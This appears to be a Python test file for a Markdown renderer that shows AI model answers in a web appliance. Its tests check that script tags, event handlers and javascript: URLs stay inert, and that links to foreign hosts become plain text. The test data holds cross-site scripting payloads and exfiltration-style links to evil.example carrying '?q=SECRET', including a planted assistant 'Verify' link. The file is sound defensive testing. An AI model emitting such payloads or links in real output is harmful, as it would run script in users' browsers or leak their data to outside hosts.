"""Model output is rendered as Markdown with anything executable left inert, and links only
within the appliance or to web.link_hosts."""

from pathlib import Path

import msgspec
import pytest

from appliance.config import Settings, SettingsError, load_settings
from appliance.store.conversations import ConversationStore
from appliance.store.db import Database
from appliance.web.markdown import render
from tests.web.conftest import running_app

UNSAFE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "![pic](javascript:alert(1))",
    '<iframe src="http://example.com"></iframe>',
]


@pytest.mark.parametrize("text", UNSAFE)
def test_unsafe_markup_stays_inert(text: str) -> None:
    html = render(text)
    assert "<script" not in html
    assert "<img src=x" not in html
    assert "<iframe" not in html
    assert '<a href="#" onclick' not in html
    assert 'href="javascript:' not in html
    assert 'src="javascript:' not in html


def test_tags_are_shown_as_text() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("<script>alert(1)</script>")


def test_code_blocks_and_formatting() -> None:
    html = render("**bold** and `x`\n\n```python\nprint('<b>')\n```\n")
    assert "<strong>bold</strong>" in html
    assert '<pre><code class="language-python">' in html
    assert "print('&lt;b&gt;')" in html


def test_images_are_not_rendered_so_nothing_is_fetched_from_elsewhere() -> None:
    html = render("![logo](https://example.com/track.png?q=secret)")
    assert "<img" not in html


FOREIGN = [
    ("[click here](https://evil.example/?q=SECRET)", "click here (https://evil.example/?q=SECRET)"),
    ("[r][1]\n\n[1]: https://evil.example/ref?q=SECRET", "r (https://evil.example/ref?q=SECRET)"),
    ("<https://evil.example/auto?q=SECRET>", "https://evil.example/auto?q=SECRET"),
    (
        "![logo](https://evil.example/px.png?q=SECRET)",
        "!logo (https://evil.example/px.png?q=SECRET)",
    ),
    ("[x](//evil.example/?q=SECRET)", "x (//evil.example/?q=SECRET)"),
    ("[x](HTTPS://EVIL.example:8443/?q=SECRET)", "x (HTTPS://EVIL.example:8443/?q=SECRET)"),
    ("[mail](mailto:drop@evil.example?body=SECRET)", "mail (mailto:drop@evil.example?body=SECRET)"),
    (
        "[**bold** text](http://wiki.example.com.evil.example/)",
        "text (http://wiki.example.com.evil.example/)",
    ),
]


@pytest.mark.parametrize(("text", "shown"), FOREIGN)
def test_a_link_to_another_host_is_text_showing_where_it_points(text: str, shown: str) -> None:
    html = render(text, ["wiki.example.com"])
    assert "<a" not in html
    assert shown in html.replace("<strong>bold</strong> ", "")


def test_links_within_the_appliance_stay_links() -> None:
    html = render("See [the source](/view?path=a.md&chunk=3) and [below](#notes).")
    assert '<a href="/view?path=a.md&amp;chunk=3">the source</a>' in html
    assert '<a href="#notes">below</a>' in html


def test_a_backslash_cannot_turn_a_relative_link_into_another_host() -> None:
    html = render("[x](/\\evil.example/) [y](\\\\evil.example/)")
    assert 'href="/\\' not in html
    assert 'href="\\' not in html
    assert "evil.example" in html  # kept as a path on the appliance, or as text


def test_hosts_in_link_hosts_stay_links_by_name_only() -> None:
    text = "[wiki](https://Wiki.Example.com/page) [other](https://example.com/page)"
    html = render(text, ["wiki.example.com"])
    assert '<a href="https://Wiki.Example.com/page">wiki</a>' in html
    assert "other (https://example.com/page)" in html
    assert html.count("<a ") == 1


def test_the_page_gets_answers_rendered_with_web_link_hosts(settings: Settings) -> None:
    web = msgspec.structs.replace(settings.web, link_hosts=["wiki.example.com"])
    with running_app(msgspec.structs.replace(settings, web=web)) as client:
        conv = client.post("/api/conversations", json={}).json()
        # An answer echoing a planted link, written through a second connection to the file.
        store = ConversationStore(Database(Path(settings.data_path) / "appliance.db"))
        store.add_message(conv["id"], "user", "hi")
        store.add_message(conv["id"], "assistant", "[Verify](https://evil.example/?q=SECRET) "
                          "or [the wiki](https://wiki.example.com/expenses)")  # fmt: skip
        answer = client.get(f"/api/conversations/{conv['id']}").json()["messages"][1]
    assert "Verify (https://evil.example/?q=SECRET)" in answer["html"]
    assert 'href="https://evil.example' not in answer["html"]
    assert '<a href="https://wiki.example.com/expenses">the wiki</a>' in answer["html"]


def test_a_link_host_that_is_no_host_name_fails_at_start() -> None:
    with pytest.raises(SettingsError, match=r"'https://wiki\.example\.com/' in link_hosts"):
        load_settings(None, {"APPLIANCE_WEB__LINK_HOSTS": '["https://wiki.example.com/"]'})
    settings = load_settings(None, {"APPLIANCE_WEB__LINK_HOSTS": '["wiki.example.com"]'})
    assert settings.web.link_hosts == ["wiki.example.com"]
